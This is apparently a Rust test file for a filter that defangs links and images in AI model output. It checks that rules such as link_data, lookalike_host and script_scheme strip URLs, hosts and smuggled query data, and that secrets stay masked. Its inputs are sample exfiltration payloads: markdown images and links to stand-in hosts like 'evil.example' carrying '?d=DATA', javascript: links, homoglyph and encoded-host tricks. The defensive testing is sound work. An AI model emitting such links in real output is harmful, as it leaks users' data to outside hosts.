use super::super::tests::found;
use super::*;
use crate::content::Content;
use crate::source::SourceKind;
use crate::view::{View, Views};
use proptest::prelude::*;

fn views(text: &str) -> Views<'_> {
    Views { base: View::identity(text), decoded: vec![], hidden: vec![], truncated: false }
}

fn written(text: &str, findings: &[Finding], own: &[&str], masked: &[Span]) -> String {
    let views = views(text);
    let own: Vec<String> = own.iter().map(|&own| own.to_owned()).collect();
    let masked: Vec<(&str, Span)> = masked.iter().map(|span| ("", *span)).collect();
    let edits = defanged(&[Leaf { path: "", text, views: &views }], findings, &own, &masked);
    let value = super::super::apply(&Content::text(SourceKind::Model, text), &edits);
    value.as_str().unwrap().to_owned()
}

fn one(rule: &'static str, before: &str, construct: &str, after: &str) -> String {
    let text = format!("{before}{construct}{after}");
    written(&text, &[found(rule, &text, construct)], &[], &[])
}

#[test]
fn readers_keep_words_and_host() {
    for (rule, construct, expected) in [
        ("image_data", "![a chart](https://e.example/c.png?d=1)", "a chart [image removed]"),
        ("image_data", "![](https://e.example/c.png?d=1)", "[image removed]"),
        ("image_data", "![a][r]", "a [image removed]"),
        ("auto_load", "<img src='https://e.example/x' alt=a>", "[image removed]"),
        (
            "link_data",
            "[the report](https://E.example:8443/?d=1)",
            "the report [link removed: e[.]example]",
        ),
        ("link_data", "[x [y] z](https://e.example/?d=1)", "[link removed: e[.]example]"),
        ("link_data", "https://e.example/?d=1", "[link removed: e[.]example]"),
        ("link_data", "<https://own.example@e.example/?d=1>", "[link removed: e[.]example]"),
        ("link_data", "[r]: //e.example/?d=1", "[link removed: e[.]example]"),
        ("ip_host", "http://3232235777/x", "[link removed: 192[.]168[.]1[.]1]"),
        ("ip_host", "http://[::1]:80/x", "[link removed: ::1]"),
        ("lookalike_host", "https://аpple.example/", "[link removed: xn--pple-43d[.]example]"),
        ("lookalike_host", "[Sign in](https:\\\\e.example)", "Sign in [link removed]"),
        ("script_scheme", "[go](javascript:alert(1))", "go [link removed]"),
        (
            "link_data",
            "<a href=\"https://e.example/?d\">see this</a>",
            "see this [link removed: e[.]example]",
        ),
        ("link_data", "<a href=https://e.example/?d=1>", "[link removed: e[.]example]"),
    ] {
        let rule = format!("exfiltration/{rule}").leak();
        assert_eq!(one(rule, "Look: ", construct, " ok"), format!("Look: {expected} ok"));
    }
}

#[test]
fn a_label_that_leads_out_goes_too() {
    for label in [
        "https://e.example/?d=1",
        "//e.example/x",
        "www.e.example",
        "![i](https://e.example/i.png)",
        "<img src=//e.example>",
        "e.example/?d=1",
        "a\\]",
        "&#104;ttp",
    ] {
        let construct = format!("[{label}](https://f.example/?d=2)");
        let out = one("exfiltration/link_data", "", &construct, "");
        assert!(out.starts_with("[link removed"), "{out}");
        assert!(!out.contains("?d="), "{out}");
    }
}

#[test]
fn no_placeholder_becomes_a_link() {
    for after in
        ["(https://f.example)", "[ref]", ": https://f.example", "\u{200b}(https://f.example)"]
    {
        let out = one("exfiltration/link_data", "", "<https://e.example/?d=1>", after);
        assert_eq!(out, format!("[link removed: e[.]example] {after}"));
    }
}

#[test]
fn long_and_odd_hosts_are_cut_or_kept_back() {
    let host = format!("{}.e.example", "a".repeat(63)).repeat(1);
    let out = one("exfiltration/link_data", "", &format!("https://{host}/"), "");
    assert!(out.starts_with("[link removed: ...aaa") && out.ends_with("a[.]e[.]example]"), "{out}");
    let long = "a".repeat(5000);
    let out = one("exfiltration/link_data", "", &format!("https://{long}/"), "");
    assert_eq!(out, "[link removed]");
}

#[test]
fn a_masked_host_is_not_shown() {
    let text = "https://AKIA1234.e.example/?d=1";
    let finding = found("exfiltration/link_data", text, text);
    let masked = found("secret/aws", text, "AKIA1234").span;
    assert_eq!(written(text, &[finding], &[], &[masked]), "[link removed]");
}

#[test]
fn secrets_in_a_label_stay_masked() {
    let text = "[key AKIA1234](https://e.example/?d=1)";
    let views = views(text);
    let findings =
        [found("exfiltration/link_data", text, text), found("secret/aws", text, "AKIA1234")];
    let leaves = [Leaf { path: "", text, views: &views }];
    let (operators, names) = (super::super::Operators::default(), std::sync::Mutex::default());
    let key = || crate::digest::Key::new([7; 32]);
    let redactor = super::super::Redactor::new(&operators, &key, &names);
    let kind = crate::content::OutputKind::Answer;
    let verdict = super::super::output(kind, &leaves, &findings, &[], &[], &redactor);
    let value = super::super::apply(&Content::text(SourceKind::Model, text), &verdict.edits);
    assert_eq!(value.as_str(), Some("key [secret] [link removed: e[.]example]"));
}

#[test]
fn what_nobody_follows_stays() {
    let text = "aHR0cHM6Ly9lLmV4YW1wbGUvP2Q9MQ";
    let through =
        |layer| Finding { through: vec![layer], ..found("exfiltration/link_data", text, text) };
    assert_eq!(written(text, &[through(Layer::Base64)], &[], &[]), text);
    assert_eq!(written(text, &[through(Layer::Html)], &[], &[]), "[link removed]");
}

#[test]
fn own_hosts_are_left_where_there_is_no_doubt() {
    let own = ["own.example", "*.cdn.example"];
    let left = |rule: &'static str, text: &str| {
        written(text, &[found(rule, text, text)], &own, &[]) == text
    };
    for text in [
        "![a](https://own.example/?d=1)",
        "[a](https://x.own.example/?d=1)",
        "https://a.cdn.example/?d=1&e=2",
        "<https://own.example/?d=1>",
    ] {
        assert!(left("exfiltration/link_data", text), "{text}");
        assert!(!left("exfiltration/lookalike_host", text), "{text}");
        assert!(!left("exfiltration/script_scheme", text), "{text}");
    }
    for text in [
        "![a](https://notown.example/?d=1)",
        "![a](https://own.example.e.example/?d=1)",
        "![a](https://own.example@e.example/?d=1)",
        "![a](https://e.example/https://own.example/)",
        "![a](https://own.example/https://e.example/)",
        "[![a](https://own.example/)](javascript:alert)",
        "[![a](https://e.example/)](https://own.example/)",
        "[a](javascript:x//https://own.example/)",
        "![a](https://own.example\\@e.example/)",
        "![a](https:&#47;&#47;e.example/?https://own.example/)",
        "![a](//e.example/?d=https://own.example/)",
        "<img src=https://own.example/ srcset=x>",
        "![a](data:x,https://own.example/)",
        "![а](https://own.example/?d=1)",
    ] {
        assert!(!left("exfiltration/link_data", text), "{text}");
    }
}

proptest! {
    #[test]
    fn no_target_survives(
        label in r"[a-z \[\]()<>!\\]{0,10}",
        shape in 0usize..5,
        after in r"[a-z()\[: ]{0,3}",
    ) {
        let url = "https://evil.example/p?d=DATA";
        let construct = match shape {
            0 => format!("[{label}]({url})"),
            1 => format!("![{label}]({url})"),
            2 => format!("<a href='{url}'>{label}</a>"),
            3 => format!("<{url}>"),
            _ => format!("[{label}]: {url}"),
        };
        let out = one("exfiltration/link_data", "", &construct, &after);
        prop_assert!(!out.contains("DATA") && !out.contains("//") && !out.contains("evil.example"));
        prop_assert!(!out.contains("](") && !out.contains("]["), "{}", out);
    }
}
